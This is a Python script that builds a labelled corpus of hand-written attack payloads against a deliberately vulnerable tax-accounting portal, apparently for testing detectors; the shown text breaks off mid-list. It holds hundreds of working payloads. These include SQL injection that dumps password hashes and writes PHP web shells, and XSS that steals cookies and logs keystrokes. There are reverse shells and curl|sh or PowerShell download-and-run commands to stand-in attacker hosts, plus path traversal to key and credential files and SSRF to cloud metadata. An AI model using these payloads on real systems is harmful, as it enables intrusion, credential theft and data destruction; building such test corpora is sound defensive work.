"""Held-out ATTACK corpus for the tax-preparation / accounting client portal theme.

Each value is a working payload against a deliberately vulnerable version of a
tax/accounting client portal that puts the value where its class says:

  class = "<context>-<technique>[+<encoding>]"

  context   the portal field and how the vulnerable app uses it, e.g.
            memo (bank memo text concatenated into a quoted SQL string),
            invoice (invoice number, quoted SQL / XPath string),
            year / amount / client-id (numeric SQL context), sort (ORDER BY),
            note (rich-text note rendered as HTML without escaping),
            filename (receipt file name put on a shell line or into a path),
            receipt-url / webhook / einvoice-url (URL the server fetches),
            invoice-template / email-template (server-side template source),
            export-cell (cell written to a CSV/XLSX export), log / header / mail
            (log line, HTTP response header, e-mail header), directory / login
            (LDAP filter), xpath (XPath query over the XML ledger) ...
            "plain" means the bare payload with no domain text around it.
  technique what the payload does (union-select, time-blind, cmdsub, ...)
  encoding  optional transport encoding (urlenc, double-urlenc, html-entities,
            unicode-escape, case-mixing, comment-space, overlong-utf8, ...)

Every payload was written by hand for this corpus from an understanding of the
technique; nothing is copied from public payload lists. Attacker infrastructure
is limited to attacker.example, *.attacker.example, 203.0.113.0/24 and
198.51.100.0/24; every secret-looking token is a fake placeholder.

Most values are hand-written literals (>= 80 %); the rest come from small
templates over hand-written pools, driven by a fixed random.Random(SEED).

Run:  python3 make_attacks.py      (writes attacks.jsonl next to this file)
"""

import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 7202
ID_PREFIX = "ha72"

CATEGORY_ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]

# How many values each category should end up with (literals + template fill).
TARGETS = {
    "sqli": 79, "xss": 75, "cmdi": 73, "traversal": 52, "ssrf": 52,
    "code": 80, "nosqli": 27, "crlf": 33, "ldap-xpath": 24,
}

# ---------------------------------------------------------------------------
# Hand-written literals: (class, value)
# ---------------------------------------------------------------------------

LITERALS = {}

LITERALS["sqli"] = [
    ("memo-union-select", "Office rent March' UNION SELECT email, password_hash FROM portal_users-- -"),
    ("invoice-boolean-tautology", "INV-2024-0091' OR 'x'='x"),
    ("search-like-union", "staples%' UNION SELECT NULL, tin, bank_iban, NULL FROM clients-- -"),
    ("year-numeric-union", "2024 UNION SELECT id, ssn_last4, date_of_birth FROM taxpayers"),
    ("amount-time-blind", "1234.56 AND SLEEP(6)"),
    ("memo-time-blind", "Reimbursement'||(SELECT pg_sleep(6))||'"),
    ("search-stacked-update", "coffee'; UPDATE invoices SET status='paid', paid_amount=total WHERE client_id=4471; -- "),
    ("taxid-error-extractvalue", "12-3456789' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT CONCAT(user(), 0x3a, database())))) AND '1'='1"),
    ("invoice-error-cast", "INV-1' AND 1=CAST((SELECT string_agg(username||':'||pw_hash, ',') FROM staff) AS int)-- "),
    ("client-name-time-blind", "Rivera & Sons'; IF (SELECT COUNT(*) FROM sys.sql_logins WHERE name='sa')=1 WAITFOR DELAY '0:0:7'--"),
    ("sort-orderby-case", "(CASE WHEN (SELECT SUBSTRING(api_key,1,1) FROM integrations LIMIT 1)='a' THEN invoice_date ELSE amount END)"),
    ("sort-orderby-error-boolean", "amount,(SELECT 1 FROM dual WHERE 1=(SELECT IF(ASCII(SUBSTR((SELECT password FROM users WHERE role='admin' LIMIT 1),1,1))>77,1,(SELECT 1 UNION SELECT 2))))"),
    ("client-name-insert-subquery", "Acme Holdings', (SELECT GROUP_CONCAT(email,':',pw_hash SEPARATOR ';') FROM portal_users), 'active')-- -"),
    ("memo-oob-dns", r"Lunch w/ client' AND LOAD_FILE(CONCAT('\\\\', (SELECT HEX(password) FROM users LIMIT 1), '.x.attacker.example\\share'))-- -"),
    ("memo-oob-xp-dirtree", r"Bank fee'; DECLARE @h varchar(200); SELECT @h=(SELECT TOP 1 pw FROM dbo.users); EXEC('master..xp_dirtree ''\\'+@h+'.attacker.example\x''');--"),
    ("invoice-oob-utl-http", "INV-7'||UTL_HTTP.REQUEST('http://attacker.example/o?'||(SELECT user FROM dual))||'"),
    ("search-union-sqlite-master", "toner' UNION SELECT name, sql FROM sqlite_master-- "),
    ("year-numeric-tautology", "2023 OR 1=1"),
    ("amount-time-benchmark", "0 OR BENCHMARK(40000000,SHA1('ledger'))"),
    ("memo-union+comment-space", "Rent'/**/UNION/**/SELECT/**/iban,bic/**/FROM/**/client_banks#"),
    ("invoice-union-versioned-comment", "INV-2024-0091'/*!50000UNION*//*!50000SELECT*/1,@@version,3-- -"),
    ("memo-union+case-mixing", "refund' uNiOn SeLeCt tin, NULL FrOm clients -- -"),
    ("client-name-union-hex-literal", "x' UNION SELECT 1, username, password FROM users WHERE username=0x61646d696e-- -"),
    ("category-boolean-char-function", "Meals' OR role=CHAR(97,100,109,105,110)-- "),
    ("memo-stacked-copy-program", "memo'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.44/p.sh | sh'; -- "),
    ("search-union-into-outfile", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL INTO OUTFILE '/var/www/html/uploads/r.php'-- -"),
    ("invoice-stacked-xp-cmdshell", r"INV-0042'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami > C:\inetpub\wwwroot\w.txt';--"),
    ("search-boolean-json-operator", "x' OR (SELECT settings::json->>'smtp_pass' FROM client_prefs LIMIT 1) LIKE 'a%'-- "),
    ("date-time-blind-subselect", "2024-04-15' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"),
    ("date-boolean-tautology", "2024-01-01' OR invoice_date > '1900-01-01"),
    ("client-id-numeric-limit", "4471 OR 1=1 LIMIT 1 OFFSET 3"),
    ("search-like-boundary", "%' AND client_id<>4471 AND '%'='"),
    ("client-id-in-list-breakout", "4471) OR (1=1"),
    ("client-name-stacked-drop", "Dev Patel'); DROP TABLE journal_entries;--"),
    ("sort-orderby-division-error", "invoice_date DESC, (SELECT CASE WHEN (SELECT COUNT(*) FROM users)>10 THEN 1 ELSE 1/0 END)"),
    ("memo-time-heavy-query", "x' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))-- "),
    ("invoice-time-dbms-pipe", "INV' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('q',8)-- "),
    ("memo-error-convert", "x' AND 1=CONVERT(int,(SELECT TOP 1 name+':'+password_hash FROM staff))-- "),
    ("taxid-error-updatexml", "DE318472905' AND UPDATEXML(NULL, CONCAT(0x3a, (SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 1)), NULL)-- -"),
    ("page-size-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("invoice-boolean-substring", "INV-2024-0091' AND SUBSTRING((SELECT token FROM api_tokens WHERE id=1),1,1)='f"),
    ("client-id-boolean-ascii", "4471 AND ASCII(SUBSTRING((SELECT iban FROM client_banks LIMIT 1),5,1))>52"),
    ("plain-union-column-probe", "' UNION SELECT NULL,NULL,NULL,NULL-- -"),
    ("plain-comment-truncation", "admin'#"),
    ("json-boolean-tautology", "{\"invoice_no\": \"INV-2024-0091' OR '1'='1\", \"tax_year\": 2024}"),
    ("memo-multiline-union", "Quarterly VAT payment\n' UNION SELECT username, password FROM users WHERE '1'='1"),
    ("journal-insert-stacked-delete", "Dr Office Expense 189.98'); DELETE FROM audit_log WHERE user_id=17;-- "),
    ("invoice-union+urlenc", "INV-2024-0091%27%20UNION%20SELECT%20tin%2Cdob%20FROM%20clients--%20-"),
    ("year-union+double-urlenc", "2024%2520UNION%2520SELECT%2520ssn%252Cname%2520FROM%2520taxpayers"),
    ("invoice-tautology+fullwidth", "INV-1＇ OR ＇1＇=＇1"),
    ("memo-stacked-insert-admin", "x'; INSERT INTO portal_users(email, role, pw_hash) VALUES('ops@attacker.example', 'admin', '$2b$12$Q9xZbW1hN0rT2uVwYz3AeO4pLk8sDfG5hJj6KlMn7Bq0Cr1Ds2Et'); -- "),
    ("memo-time-conditional", "x' AND (SELECT current_setting('is_superuser'))='on' AND (SELECT 1 FROM pg_sleep(4)) IS NOT NULL-- "),
    ("search-union-catalog", "x' UNION SELECT owner, table_name FROM all_tables WHERE ROWNUM<50-- "),
    ("memo-stacked-load-extension", "x'); SELECT load_extension('/srv/portal/uploads/receipt_4471.so');-- "),
    ("client-id-union-information-schema", "-1 UNION SELECT 1,GROUP_CONCAT(column_name),3 FROM information_schema.columns WHERE table_name='clients'"),
    ("memo-error-duplicate-key", "x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))k FROM information_schema.tables GROUP BY k)y)-- -"),
    ("memo-stacked-dollar-quote", "x'; SELECT $$a$$||pg_read_file($$/etc/passwd$$);--"),
    ("filename-oob-xp-fileexist", r"receipt.pdf'; EXEC master.dbo.xp_fileexist '\\203.0.113.9\s\a';--"),
    ("plain-having-error", "' HAVING 1=1-- "),
    ("invoice-boolean-count", "INV-2024-0091' AND (SELECT COUNT(*) FROM clients)>1000 AND 'a'='a"),
    ("invoice-union+whitespace-tabs", "INV-1'\tUNION\tSELECT\tpassword,1\tFROM\tusers--\t-"),
    ("plain-time-blind", "1' AND SLEEP(5)#"),
    ("journal-update-set-injection", "Cr Cash 189.98', amount=0 WHERE entry_id>0-- "),
    ("search-boolean-exists", "Henderson' AND EXISTS(SELECT 1 FROM portal_users WHERE role='admin' AND pw_hash LIKE '$2b$%')-- "),
    ("taxid-numeric-union+newline-whitespace", "123456789\nUNION\nSELECT\nusername,\npassword\nFROM\nusers"),
    ("memo-stacked-truncate", "ACH DEBIT IRS USATAXPYMT'; TRUNCATE TABLE bank_transactions; -- "),
    ("plain-boolean-tautology", "' OR 2>1-- "),
    ("plain-stacked-drop", "1; DROP TABLE clients"),
    ("iban-error-cast", "DE71100500001234567890' AND 1=CAST(version() AS integer)-- "),
    ("plain-union-version", "' UNION SELECT @@version-- -"),
    ("plain-stacked-sleep", "'; SELECT pg_sleep(5)--"),
    ("plain-numeric-tautology", "1 OR 1=1"),
]

LITERALS["xss"] = [
    ("note-img-onerror", "Please see receipt <img src=x onerror=\"fetch('https://attacker.example/c?'+document.cookie)\">"),
    ("memo-svg-onload", "ACH DEBIT IRS <svg onload=alert(document.domain)>"),
    ("client-name-script-src", "Maeve O'Connor<script src=https://cdn.attacker.example/k.js></script>"),
    ("search-attr-breakout", "\" autofocus onfocus=\"location='https://attacker.example/?'+btoa(document.cookie)"),
    ("invoice-attr-breakout", "INV-2024-0091' onmouseover='alert(1)' x='"),
    ("website-javascript-uri", "javascript:fetch('//attacker.example/l',{method:'POST',body:localStorage.getItem('token')})"),
    ("note-markdown-js-link", "[Download signed 8879](javascript:alert(document.cookie))"),
    ("note-details-ontoggle", "<details open ontoggle=alert(origin)><summary>Q3 VAT notes</summary></details>"),
    ("note-iframe-srcdoc+html-entities", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("memo-js-string-breakout", "Dinner';fetch('//attacker.example/?c='+document.cookie);//"),
    ("question-script-block-breakout", "</script><script>alert(document.domain)</script>"),
    ("question-textarea-breakout", "Is this right?</textarea><img src=1 onerror=alert(1)>"),
    ("title-breakout", "Q1 receipts</title><svg/onload=confirm(1)>"),
    ("note-style-breakout", "</style><img src=x onerror=alert(1)>"),
    ("note-href-js+html-entities", "<a href=\"jav&#x61;script&colon;alert(1)\">W-2 upload</a>"),
    ("note-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("note-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("note-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("note-object-data-uri-base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("note-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Open receipt</text></a></svg>"),
    ("note-form-action-js", "<form action=javascript:alert(1)><button>Sign 8879 now</button></form>"),
    ("note-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("note-meta-refresh-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/portal-login\">"),
    ("note-handler+unicode-escape", "<img src=x onerror=\"\\u0061lert(document.cookie)\">"),
    ("note-handler+html-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">"),
    ("search-svg+urlenc", "%3Csvg%20onload%3Dalert(document.cookie)%3E"),
    ("search-script+double-urlenc", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("plain-script+case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("website-js-uri+whitespace", "java\tscript:alert(document.domain)"),
    ("note-mutation-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("memo-js-template-literal", "Lunch ${fetch('//attacker.example/t?'+document.cookie)}"),
    ("note-angularjs-csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("filename-attr-breakout", "receipt\"><img src=x onerror=alert(1)>.pdf"),
    ("note-css-attribute-exfil", "<style>input[name=csrf_token][value^=a]{background:url(https://attacker.example/a)}</style>"),
    ("note-dangling-markup", "<img src='https://attacker.example/collect?html="),
    ("note-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("note-svg-script+html-entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("note-iframe-data-uri", "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"),
    ("json-stored-img", "{\"memo\":\"<img src=x onerror=alert(1)>\",\"amount\":\"45.00\"}"),
    ("question-multiline-script", "Hi Sarah,\nAttached is the 1099.\n<script>\nnew Image().src='https://attacker.example/s?'+encodeURIComponent(document.cookie);\n</script>"),
    ("note-animation-event", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=\"alert(1)\">Reminder</p>"),
    ("note-contenteditable-onfocus", "<div contenteditable autofocus onfocus=alert(1)>Edit note</div>"),
    ("note-popover-beforetoggle", "<button popovertarget=p>Details</button><div popover id=p onbeforetoggle=alert(1)>VAT</div>"),
    ("category-unquoted-attr", "meals onmouseover=alert(1)"),
    ("website-href-breakout", "https://attacker.example/\" onclick=\"alert(1)"),
    ("plain-context-breakout", "'\"--></style></script></textarea><svg onload=alert(1)>"),
    ("note-onclick-exfil", "<a href=# onclick=\"fetch('/api/me/bank-accounts',{credentials:'include'}).then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/b',t))\">View invoice</a>"),
    ("note-self-propagating", "<img src=x onerror=\"fetch('/api/notes',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({text:this.outerHTML})})\">"),
    ("note-keylogger", "<svg onload=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
    ("note-phishing-form", "<form action=https://attacker.example/login method=post><b>Session expired</b><input name=u placeholder=Email><input name=p type=password><button>Sign in</button></form>"),
    ("taxid-js-dq-breakout", "12-3456789\";alert(1);//"),
    ("note-html-comment-breakout", "--><script>alert(1)</script><!--"),
    ("filename-svg-onload", "Quittung_Müller<svg onload=alert(1)>.pdf"),
    ("note-obfuscated-property", "<img src=x:x onerror=top['al'+'ert'](1)>"),
    ("note-base64-eval", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("note-fromcharcode", "<svg onload=window['ev'+'al'](String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("note-iframe-js-uri", "<iframe src=javascript:alert(1)>"),
    ("note-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("note-href-js+html-entities", "<a href=\"&#106;avascript:alert(1)\">Open PDF</a>"),
    ("note-href-js+percent-encoding", "<a href=\"javascript:%61lert(document.domain)\">Pay now</a>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-attr-breakout", "\"><script>alert(1)</script>"),
    ("journal-memo-svg", "Dr Meals 71.30 / Cr Cash 71.30 <svg/onload=alert(1)>"),
    ("formula-note-img", "=SUM(B2:B14) <img src=x onerror=alert(1)>"),
    ("iban-script", "GB71 WEST 1234 5698 7654 32<script>alert(1)</script>"),
    ("multilingual-note-img", "Beleg hochgeladen <img src=x onerror=alert('Prüfung')>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-a-js-href", "<a href=javascript:alert(1)>x</a>"),
]

LITERALS["cmdi"] = [
    ("filename-semicolon", "receipt_2024-03-12.pdf; curl -s https://attacker.example/x.sh | sh"),
    ("filename-cmdsub-exfil", "W2_$(curl -s attacker.example/$(whoami)).pdf"),
    ("filename-backticks", "Scan `wget -qO- 203.0.113.7/s|sh`.jpg"),
    ("filename-and-chain", "invoice.pdf && nc 203.0.113.20 4444 -e /bin/sh"),
    ("filename-or-chain", "missing.pdf || bash -c 'bash -i >& /dev/tcp/203.0.113.20/443 0>&1'"),
    ("filename-pipe", "statement.csv | cat /etc/passwd > /srv/portal/public/t.txt"),
    ("filename-newline", "receipt.jpg\ncurl -d @/etc/passwd https://attacker.example/u"),
    ("filename-semicolon-ifs", "x.pdf;cat${IFS}/etc/shadow|nc${IFS}203.0.113.5${IFS}9001"),
    ("filename-brace-expansion", "a.pdf;{curl,-s,https://attacker.example/p.sh}|sh"),
    ("filename-quote-splitting", "a.pdf;c'u'r\"l\" -s attacker.example/k|s\\h"),
    ("filename-variable-concat", "a.pdf;a=ca;b=t;$a$b /etc/passwd"),
    ("filename-glob-obfuscation", "a.pdf;/???/c?t /e??/p??s?d"),
    ("filename-base64-pipe", "a.pdf;echo Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUvcyB8IHNo|base64 -d|sh"),
    ("filename-printf-hex", r"a.pdf;$(printf '\x69\x64')"),
    ("archive-name-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh receipts/2024/run.sh"),
    ("pdf-password-quote-breakout", "Tax2024!'; id > /tmp/o; echo '"),
    ("host-semicolon", "bankfeed.firm.example; cat /etc/passwd"),
    ("host-newline+urlenc", "127.0.0.1%0aid"),
    ("email-from-argument-injection", "billing@firm.example -X/var/www/html/l.php -OQueueDirectory=/tmp"),
    ("date-dq-breakout", "2024-04-15\"; id; echo \""),
    ("filename-windows-amp", r"report.xlsx & whoami > C:\inetpub\wwwroot\o.txt"),
    ("filename-windows-powershell-download", "report.xlsx | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.12/a.ps1')\""),
    ("filename-windows-powershell-encodedcommand", "report.xlsx & powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AMQAyAC8AYQAuAHAAcwAxACcAKQA="),
    ("filename-windows-caret-obfuscation", "x.pdf & w^h^o^a^m^i"),
    ("search-find-exec", "*.pdf\" -exec sh -c 'id > /tmp/o' \\; -name \"x"),
    ("webhook-curl-output-argument", "https://attacker.example/shell.php -o /var/www/portal/shell.php"),
    ("webhook-wget-post-file-argument", "https://attacker.example/ --post-file=/etc/passwd"),
    ("git-import-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("sftp-host-proxycommand", "-oProxyCommand=sh -c 'curl -s attacker.example/p|sh' bankfeed"),
    ("filename-cmdsub-environ-exfil", "$(cat /proc/self/environ | curl -s -d @- attacker.example/e).pdf"),
    ("filename-cron-persistence", "x.pdf; echo '* * * * * root curl -s attacker.example/c|sh' >> /etc/crontab"),
    ("filename-python-reverse-shell", "x.pdf; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.20\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("filename-perl-backticks", "x.pdf | perl -e 'print `id`'"),
    ("filename-time-blind", "receipt.pdf;sleep 9"),
    ("memo-cmdsub-time-blind", "Rent $(sleep 7)"),
    ("host-ping-timing", "x|ping -c 10 127.0.0.1"),
    ("filename-dns-exfil", "x;nslookup $(whoami).cmd.attacker.example"),
    ("memo-backtick-dns-exfil", "Lunch `dig +short $(hostname).d.attacker.example`"),
    ("filename-awk-system", "x;awk 'BEGIN{system(\"id\")}'"),
    ("filename-semicolon+tab", "a.pdf;cat\t/etc/passwd"),
    ("filename-positional-param-obfuscation", "a.pdf;wh$@oami"),
    ("filename-line-continuation", "a.pdf;wh\\\noami"),
    ("filename-substring-slash", "a.pdf;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("filename-rev-pipe", "a;echo 'imaohw'|rev|sh"),
    ("ocr-lang-semicolon", "eng;id"),
    ("printer-name-semicolon", "Office_HP_M404;id>/tmp/lp"),
    ("filename-imagemagick-pipe", "|curl -s attacker.example/i.sh|sh"),
    ("filename-perl-open-pipe", "curl -s attacker.example/pl|sh|"),
    ("filename-semicolon+urlenc", "receipt.pdf%3Bcurl%20-s%20attacker.example%2Fx%7Csh"),
    ("filename-semicolon+double-urlenc", "receipt.pdf%253Bid"),
    ("archive-password-argument-injection", "x -T -TT 'sh -c id>/tmp/z'"),
    ("memo-cmdsub-exfil", "Rent $(curl -s attacker.example/$(id -u))"),
    ("memo-backticks", "Lunch `id`"),
    ("filename-windows-certutil", "Q3.pdf\" & certutil -urlcache -split -f http://203.0.113.12/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe & \""),
    ("filename-windows-type", r"x.pdf | type C:\Windows\win.ini"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-cmdsub", "$(cat /etc/passwd)"),
    ("plain-backticks", "`uname -a`"),
    ("plain-and-chain", "&& ls -la /"),
    ("plain-or-time", "|| sleep 10"),
    ("filename-herestring-base64", "x;bash<<<$(base64 -d<<<aWQ=)"),
    ("user-agent-shellshock", "() { :;}; /bin/bash -c 'curl -s attacker.example/ss|sh'"),
    ("filename-subshell-base64", "a.pdf;/bin/sh -c \"$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d)\""),
    ("currency-code-semicolon", "EUR;curl -s attacker.example/fx|sh"),
    ("journal-export-cmdsub", "Dr Cash 100.00 / Cr Revenue 100.00 $(id>/tmp/je)"),
    ("filename-process-substitution", "a.pdf <(curl -s attacker.example/x|sh)"),
    ("plain-newline", "\nid"),
    ("plain-cmdsub-sleep", "$(sleep 5)"),
]

LITERALS["traversal"] = [
    ("receipt-path-dotdot", "../../../../etc/passwd"),
    ("receipt-path-prefixed-dotdot", "2024/Q1/../../../../../etc/shadow"),
    ("receipt-path-backslash", r"..\..\..\..\Windows\win.ini"),
    ("attachment-webconfig-backslash", r"..\..\..\inetpub\wwwroot\web.config"),
    ("receipt-path+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("receipt-path+double-urlenc", "..%252f..%252f..%252fapp%252f.env"),
    ("receipt-path+overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("receipt-path+overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("receipt-path-strip-once", "....//....//....//etc/passwd"),
    ("receipt-path-strip-once-nested", "..././..././..././etc/hosts"),
    ("receipt-path-null-byte", "../../../../etc/passwd%00.pdf"),
    ("plain-absolute-path", "/etc/passwd"),
    ("download-absolute-proc", "/proc/self/environ"),
    ("download-proc-cwd", "../../../proc/self/cwd/config/settings.py"),
    ("download-app-source", "../../app/settings.py"),
    ("download-dotenv", "../.env"),
    ("download-git-config", "../../.git/config"),
    ("download-ssh-key", "../../../root/.ssh/id_rsa"),
    ("download-aws-credentials", "../../../home/portal/.aws/credentials"),
    ("download-nginx-log", "../../../var/log/nginx/access.log"),
    ("download-pg-hba+urlenc-slash", "..%2f..%2f..%2fvar%2flib%2fpostgresql%2fdata%2fpg_hba.conf"),
    ("zip-entry-slip", "receipts/../../../../var/www/portal/static/x.html"),
    ("zip-entry-slip-windows", r"..\..\..\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\run.bat"),
    ("attachment-unc-path", r"\\203.0.113.8\share\receipt.pdf"),
    ("receipt-path+fullwidth", "．．／．．／．．／etc／passwd"),
    ("receipt-path+iis-unicode", "%u002e%u002e%u2215%u002e%u002e%u2215windows%u2215win.ini"),
    ("download-tomcat-path-param", "..;/..;/WEB-INF/web.xml"),
    ("template-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("client-folder-horizontal", "4471/../4472/W2_2024.pdf"),
    ("receipt-path-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("receipt-path+mixed-encoding", "%2e./%2e./%2e./etc/passwd"),
    ("receipt-path+uppercase-urlenc", "..%2F..%2F..%2Fetc%2Fpasswd"),
    ("receipt-path+half-encoded-dots", ".%2e/.%2e/.%2e/etc/passwd"),
    ("receipt-path-trailing-traversal", "receipt.pdf/../../../../etc/group"),
    ("download-absolute-with-traversal", "/var/www/portal/../../../etc/passwd"),
    ("download-windows-absolute", r"C:\Windows\System32\drivers\etc\hosts"),
    ("filename-ntfs-ads", "web.config::$DATA"),
    ("download-windows-sam", r"..\..\..\..\..\..\..\..\windows\system32\config\SAM"),
    ("download-java-classpath", "../../../../../../WEB-INF/classes/application.properties"),
    ("download-docker-secret", "../../../../run/secrets/db_password"),
    ("download-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("json-attachment-path", "{\"attachment\": \"../../../../etc/passwd\", \"invoice\": \"INV-2024-0091\"}"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-windows", r"..\..\..\boot.ini"),
    ("locale-dotdot", "de/../../../../../etc/passwd"),
    ("export-path-write", "../../../../etc/cron.d/ledger_export"),
    ("receipt-path-backslash+double-urlenc", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("plain-dotdot-deep", "../../../../../../../../../../etc/hosts"),
    ("plain-windows-absolute", "c:/windows/win.ini"),
]

LITERALS["ssrf"] = [
    ("receipt-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("receipt-url-aws-userdata", "http://169.254.169.254/latest/user-data"),
    ("einvoice-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("einvoice-url-gcp-v1beta1", "http://metadata/computeMetadata/v1beta1/project/attributes/?recursive=true"),
    ("webhook-azure-imds", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("webhook-ecs-metadata", "http://169.254.170.2/v2/metadata"),
    ("logo-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("receipt-url-metadata+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("receipt-url-metadata+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("receipt-url-metadata+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("receipt-url-metadata+short-ip", "http://169.254.43518/latest/meta-data/"),
    ("webhook-loopback-short", "http://127.1:8080/admin"),
    ("webhook-zero-ip-redis", "http://0:6379/"),
    ("logo-url-ipv6-loopback", "http://[::1]/server-status"),
    ("webhook-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]:9200/_cat/indices"),
    ("receipt-url-metadata+ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("webhook-dns-to-loopback", "http://localhost.attacker.example:8080/admin"),
    ("receipt-url-userinfo-confusion", "https://receipts.firm.example@10.0.0.12/admin"),
    ("receipt-url-fragment-confusion", "http://127.0.0.1:8000#@receipts.firm.example/"),
    ("receipt-url-backslash-confusion", "http://127.0.0.1\\@receipts.firm.example/"),
    ("einvoice-url-open-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("webhook-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20k%20%22%5Cn*%20*%20*%20*%20*%20curl%20-s%20attacker.example/c%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("webhook-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20portal%0D%0AMAIL%20FROM:%3Cbilling@firm.example%3E%0D%0ARCPT%20TO:%3Cclient@client.example%3E%0D%0ADATA%0D%0ASubject:%20Refund%20pending%0D%0A%0D%0AConfirm%20your%20bank%20at%20https://attacker.example/r%0D%0A.%0D%0AQUIT%0D%0A"),
    ("webhook-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("receipt-url-file-scheme", "file:///etc/passwd"),
    ("logo-url-file-proc", "file:///proc/self/environ"),
    ("einvoice-url-file-localhost", "file://localhost/etc/hosts"),
    ("webhook-consul-kv", "http://10.0.0.5:8500/v1/kv/?recurse"),
    ("webhook-docker-api", "http://172.17.0.1:2375/containers/json?all=1"),
    ("einvoice-url-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("export-url-elasticsearch", "http://127.0.0.1:9200/clients/_search?q=ssn:*&size=1000"),
    ("webhook-couchdb", "http://ledger-db.internal:5984/_all_dbs"),
    ("logo-url-spring-actuator", "http://localhost:8080/actuator/env"),
    ("webhook-vault", "http://vault.internal:8200/v1/secret/data/portal"),
    ("einvoice-url-jar-scheme", "jar:http://attacker.example/r.zip!/invoice.xml"),
    ("einvoice-url-netdoc-scheme", "netdoc:///etc/passwd"),
